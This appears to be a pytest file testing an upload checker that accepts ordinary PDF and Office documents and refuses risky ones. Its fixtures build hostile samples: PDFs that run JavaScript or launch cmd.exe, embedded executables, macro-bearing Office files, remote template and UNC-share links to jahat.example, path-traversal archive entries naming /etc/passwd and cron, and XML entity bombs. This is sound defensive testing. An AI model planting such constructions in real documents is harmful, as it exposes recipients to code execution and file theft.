"""Which documents are taken, and what the others are told."""

import zipfile

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name

from innovasi.innovations.rules.uploads import UploadRefused, check_document
from tests.innovations.samples import MAIN, PLAIN_XML, TYPES, archive, office, parts, pdf, picture, relation, sent

LINK = relation("hyperlink", "https://bandarlampungkota.go.id/")
OFFICE_TEMPLATE = relation("attachedTemplate", "file:///C:/Users/Siti/Normal.dotm")
CHART = {"word/embeddings/Microsoft_Excel_Sheet.xlsx": office("xlsx")}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("sk.pdf", pdf()),
        ("SK.PDF", pdf(pages=3)),
        ("surat.docx", office("docx")),
        ("rekap.xlsx", office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"\0\1"})),
        ("paparan.pptx", office("pptx", {"ppt/media/image1.png": picture("PNG")})),
        ("tautan.docx", office("docx", {"word/_rels/document.xml.rels": LINK})),
        ("kop.docx", office("docx", {"word/_rels/settings.xml.rels": OFFICE_TEMPLATE})),
        ("grafik.docx", office("docx", CHART)),
    ],
)
def test_documents_of_offices_are_taken(name, content):
    assert check_document(sent(name, content)).size == len(content)


def opens_with_script(document):
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def script_in_names(document):
    row = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", document.make_indirect(row)])))


def launches(document):
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.Launch, F="cmd.exe"))
    document.pages[0].Annots = Array([document.make_indirect(link)])


def launches_from_a_nested_chain(document):
    action = Dictionary(S=Name.URI, URI="https://x", Next=Array([Dictionary(S=Name.Launch, F="cmd.exe")]))
    document.pages[0].AA = Dictionary(O=action)


def embeds(document):
    document.attachments["jahat.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


def wait_for_password(**who):
    return pdf(encryption=pikepdf.Encryption(**who))


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("a.pdf", pdf(opens_with_script), "perintah yang dapat berjalan"),
        ("a.pdf", pdf(script_in_names), "perintah yang dapat berjalan"),
        ("a.pdf", pdf(launches), "perintah yang dapat berjalan"),
        ("a.pdf", pdf(launches_from_a_nested_chain), "perintah yang dapat berjalan"),
        ("a.pdf", pdf(opens_with_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), "perintah yang dapat"),
        ("a.pdf", pdf(embeds), "menyimpan berkas lain"),
        ("a.pdf", wait_for_password(owner="o", user="rahasia"), "terkunci kata sandi"),
        ("a.pdf", wait_for_password(owner="o", user=""), "terkunci kata sandi"),
        ("a.pdf", b"MZ\x90" + pdf(), "bukan PDF yang utuh"),
        ("a.pdf", b"%PDF-1.7\nhanya kepala", "tidak dapat dibuka sebagai PDF"),
        ("a.pdf", picture(), "bukan PDF yang utuh"),
        ("a.pdf", b"<html>%PDF-", "bukan PDF yang utuh"),
        ("a.pdf", office(), "bukan PDF yang utuh"),
        ("a.html", b"<script>alert(1)</script>", "bukan jenis yang diterima"),
        ("a.zip", office(), "bukan jenis yang diterima"),
        ("a.pdf.exe", pdf(), "bukan jenis yang diterima"),
        ("a.jpg", picture(), "bukan jenis yang diterima"),
        ("a.doc", b"\xd0\xcf\x11\xe0", "unduh sebagai DOCX"),
        ("a.xlsm", office("xlsx"), "unduh sebagai XLSX"),
        ("a.pdf", b"", "kosong"),
    ],
)
def test_a_pdf_that_runs_hides_or_is_none_is_refused(name, content, said):
    with pytest.raises(UploadRefused) as refusal:
        check_document(sent(name, content))
    assert str(refusal.value).startswith(f"“{name}” ")
    assert said in str(refusal.value)


def locked_archive():
    content = bytearray(office())
    content[6] |= 1  # the flag of an encrypted entry, in the local and in the central header
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def broken_checksum():
    content = bytearray(archive(parts(), zipfile.ZIP_STORED))
    content[content.index(b"Keputusan")] ^= 1
    return bytes(content)


BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "tawa"><!ENTITY y "&x;&x;&x;">]><a>&y;</a>'
REMOTE = relation("attachedTemplate", "https://jahat.example/a.dotm")
SHARE = relation("oleObject", "\\\\jahat.example\\c$\\a.exe")
MACRO_TYPES = TYPES.replace(b"/>", b' a="application/vnd.ms-word.document.macroEnabled.main+xml"/>')
NESTED = {"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"\0"})}
TWICE_NESTED = {"word/embeddings/a.xlsx": office("xlsx", {"xl/embeddings/b.xlsx": office("xlsx")})}
MANY = {f"word/media/image{n}.png": b"x" for n in range(200)}


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (office("docx", {"word/vbaProject.bin": b"\0"}), "makro"),
        (office("docx", {"word/VBAPROJECT.BIN": b"\0"}), "makro"),
        (office("docx", {"word/activeX/activeX1.xml": PLAIN_XML}), "objek tertanam"),
        (office("docx", {"word/embeddings/oleObject1.bin": b"MZ"}), "objek tertanam"),
        (office("docx", {"word/embeddings/setup.exe": b"MZ"}), "objek tertanam"),
        (office("docx", {"word/a.js": b"alert(1)"}), "objek tertanam"),
        (office("docx", {"[Content_Types].xml": MACRO_TYPES}), "makro"),
        (office("docx", NESTED), "makro"),
        (office("docx", TWICE_NESTED), "objek tertanam"),
        (office("docx", {"../../../etc/cron.d/x.xml": PLAIN_XML}), "rusak"),
        (office("docx", {"/etc/passwd.xml": PLAIN_XML}), "rusak"),
        (office("docx", {"word\\x.xml": PLAIN_XML}), "rusak"),
        (office("docx", {"WORD/DOCUMENT.xml": PLAIN_XML}), "rusak"),
        (office("docx", {"word/x.xml": b"\0" * 20_000_000}), "terlalu besar setelah dibuka"),
        (office("docx", MANY), "terlalu banyak bagian"),
        (office("docx", {"word/styles.xml": BOMB}), "rusak"),
        (office("docx", {"word/styles.xml": b"<a><b></a>"}), "rusak"),
        (office("docx", {"word/_rels/settings.xml.rels": REMOTE}), "tautan yang membuka berkas dari luar"),
        (office("docx", {"word/_rels/document.xml.rels": SHARE}), "tautan yang membuka berkas dari luar"),
        (archive({"[Content_Types].xml": TYPES}), "bukan DOCX"),
        (archive({MAIN["docx"]: PLAIN_XML}), "rusak"),
        (office("xlsx"), "bukan DOCX"),
        (b"MZ\x90" + office(), "rusak"),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "terkunci kata sandi"),
        (locked_archive(), "terkunci kata sandi"),
        (broken_checksum(), "rusak"),
        (office()[:-30], "rusak"),
        (b"PK\x03\x04", "rusak"),
    ],
)
def test_an_office_file_with_macros_objects_or_tricks_is_refused(content, said):
    with pytest.raises(UploadRefused) as refusal:
        check_document(sent("surat.docx", content))
    assert str(refusal.value).startswith("“surat.docx” ")
    assert said in str(refusal.value)
